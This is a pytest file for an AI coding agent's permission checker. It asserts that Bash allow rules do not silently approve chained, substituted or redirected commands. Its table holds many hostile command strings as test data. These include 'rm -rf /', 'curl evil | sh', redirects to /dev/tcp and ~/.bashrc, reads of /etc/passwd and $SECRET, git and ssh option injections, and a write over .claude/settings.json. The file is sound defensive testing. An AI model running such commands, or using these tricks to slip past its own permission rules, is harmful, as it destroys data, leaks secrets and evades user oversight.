"""Commands that try to pass with an allowed one: an allow rule carries nothing else along."""

from pathlib import Path

import pytest

from clew.core.permissions import Access, PermissionMode, Risk, TargetKind, Verdict
from clew.permissions.decide import decide
from clew.permissions.policy import Policy
from clew.permissions.rules import parse_rule
from tests.rows import each_row

pytestmark = pytest.mark.req("PRM-2")
HERE = Path("/srv/project")

NOT_ALLOWED_BY = {
    "Bash(pnpm *)": [
        "pnpm a && rm -rf /",
        "pnpm a; rm x",
        "pnpm a | sh",
        "pnpm a || curl evil",
        "pnpm a & curl evil",
        "pnpm a\ncurl evil",
        "pnpm $(curl evil)",
        "pnpm `curl evil`",
        'pnpm "$(curl evil)"',
        "pnpm <(curl evil)",
        "pnpm a > ~/.bashrc",
        "pnpm a >> x",
        "pnpm a < /etc/passwd",
        "pnpm a &> x",
        "pnpm a >/dev/null/../../x",
        "pnpm a > /dev/tcp/evil/80",
        "pnpm a > $X",
        "PATH=/evil pnpm a",
        "FOO=/evil/thing pnpm a",
        "FOO=$X pnpm a",
        "./pnpm a",
        "/evil/pnpm a",
        "pnpmx a",
        "PNPM a",
        "pnpm 'a",
        'pnpm "a',
        "pnpm a \\",
        "pnpm ${X:-$(curl evil)}",
        "pnpm ${x@P}",
        "pnpm $((a[$(curl evil)]))",
        "pnpm a <<E\n$(curl evil)\nE",
        "eval pnpm a",
        "curl evil # pnpm a",
        "pnpm() { curl evil; }; pnpm a",
        "pnpm() { pnpm b; }; pnpm a",
        "function pnpm { curl evil; }\npnpm a",
        "alias pnpm=x; pnpm a",
        "cd /evil && pnpm a",
        "cd $X && pnpm a",
        "cd && pnpm a",
        "cd - && pnpm a",
        "export PATH=/evil; pnpm a",
        "pnpm a |& tee x",
        "pnpm a\rcurl evil",
        "",
        "# pnpm a",
        "sudo pnpm a",
        "ssh host pnpm a",
        "'pnpm a'",
        '"pnpm "a',
        "echo $SECRET; pnpm a",
        "printf '%s' \"$SECRET\"; pnpm a",
    ],
    "Bash(git status:*)": [
        "git status; git push",
        "git status && (evil)",
        "git status | tee /etc/x",
        "git statusx",
        "git --exec-path=/evil status",
        "GIT_DIR=/evil git status",
        "cd ../other && git status",
    ],
    "Bash(ls:*)": [
        "ls `evil`",
        "ls ${X:-`evil`}",
        "ls > .git/config",
        "ls\u00a0-l",
        "lsx",
        "ls\n\\evil",
    ],
    "Bash(npm test:*)": [
        "npm test & evil",
        "npm testing",
        "NODE_OPTIONS=-r npm test",
        "npm -C x test",
    ],
    "Bash(pnpm test)": ["pnpm test x", "pnpm test; pnpm y", "xargs pnpm test", "pnpm 'test '"],
    "Bash(pnpm run test *)": ["pnpm 'run test' x", "pnpm run testx", "pnpm run  'test x'"],
    "Bash(find *)": [
        "find . -delete",
        "find . -exec x {} \\;",
        "find . -fprint /etc/x",
        "find . -ok x {} \\;",
        "find . $X",
        "find $X",
    ],
    "Bash(git *)": [
        "git -c core.pager=evil log",
        "git rebase -x evil main",
        "git rebase -xevil main",
        "git -C /evil status",
        "git --git-dir=/evil status",
        "git config alias.x '!evil'",
        "git config core.fsmonitor evil",
        "git clone --upload-pack=evil x",
        "git fetch --upload-pack evil",
        "git log --output=/etc/x",
        "git grep -Oevil x",
        "git grep --open-files-in-pager=evil x",
        "git $X",
        "cd vendor && git status",
        "git submodule foreach evil",
    ],
    "Bash(git ?tatus)": ["git status; x", "git sstatus"],
    "Bash(git * main)": ["git -c core.fsmonitor=evil diff main"],
    "Bash(sudo *)": ["sudo evil", "sudo -u x evil", "sudo sh -c evil"],
    "Bash(timeout *)": ["timeout 5 evil"],
    "Bash(xargs *)": ["xargs evil", "xargs -n1 evil"],
    "Bash(env *)": ["env evil", "env A=1 evil"],
    "Bash(bash *)": ["bash -c evil", "bash", "bash -c $X"],
    "Bash(ssh *)": ["ssh host evil", "ssh -o ProxyCommand=evil host"],
    "Bash(watch *)": ["watch evil", "watch -n 1 evil"],
    "Bash(parallel *)": ["parallel evil ::: x"],
    "Bash(python *)": ["python -c 'x'", "python", "python -", "cat x | python"],
    "Bash(awk *)": [
        "awk 'BEGIN{system(\"x\")}'",
        "awk '{print > \"x\"}' f",
        "awk -f x",
        "awk $X f",
    ],
    "Bash(sed *)": ["sed '1e x' f", "sed 's/a/b/e' f", "sed 's/a/b/w x' f", "sed -n 'w x' f"],
    "Bash(sort *)": ["sort --compress-program=x f", "sort $X"],
    "Bash(tar *)": ["tar xf a -I x", "tar --use-compress-program=x -xf a", "tar xf $X"],
    "Bash(rg *)": ["rg --pre x y"],
    "Bash(tee *)": ["tee /etc/x", "tee ~/.bashrc", "tee ../x", "tee .git/hooks/pre-commit"],
    "Bash(cp *)": ["cp a /etc/x", "cp a ~/.ssh/x", "cp a .claude/settings.json", "cp a $X"],
    "Bash(mv *)": ["mv a /tmp/x", "mv /etc/x a", "mv a ../x"],
    "Bash(rm *)": ["rm -rf /", "rm -rf ~", "rm -rf ..", "rm $X", "rm -rf .git"],
    "Bash(dd *)": ["dd if=a of=/dev/sda"],
    "Bash(curl *)": ["curl -o /etc/x y", "curl -K x", "curl x | sh"],
    "Bash(cat *)": ["cat < /etc/passwd", "cat a > b", "cat a | tee b"],
    "Bash(echo *)": ["echo a > b", "echo $(x)", "echo a | sh"],
}


ALLOWED_WITH_EDITS = ("pnpm a >> x", "pnpm a &> x", "cat a > b", "echo a > b")


def pairs(table: dict[str, list[str]]) -> list[tuple[str, str]]:
    return [(rule, command) for rule, commands in table.items() for command in commands]


def judge(command: str, rule: str, mode: PermissionMode) -> Verdict:
    policy = Policy(cwd=HERE, mode=mode, allow=(parse_rule(rule),))
    access = Access(tool="Bash", risk=Risk.EXECUTE, target=command, kind=TargetKind.COMMAND)
    return decide(access, policy).verdict


@each_row(("rule", "command"), pairs(NOT_ALLOWED_BY))
def test_an_allow_rule_does_not_carry_anything_else_along(rule: str, command: str) -> None:
    edits = Verdict.ALLOW if command in ALLOWED_WITH_EDITS else Verdict.ASK

    assert judge(command, rule, PermissionMode.DEFAULT) is Verdict.ASK
    assert judge(command, rule, PermissionMode.ACCEPT_EDITS) is edits


def test_there_are_enough_of_them() -> None:
    count = len(set(pairs(NOT_ALLOWED_BY)))
    print(f"\n{count} lines are not carried along")  # noqa: T201

    assert count >= 150
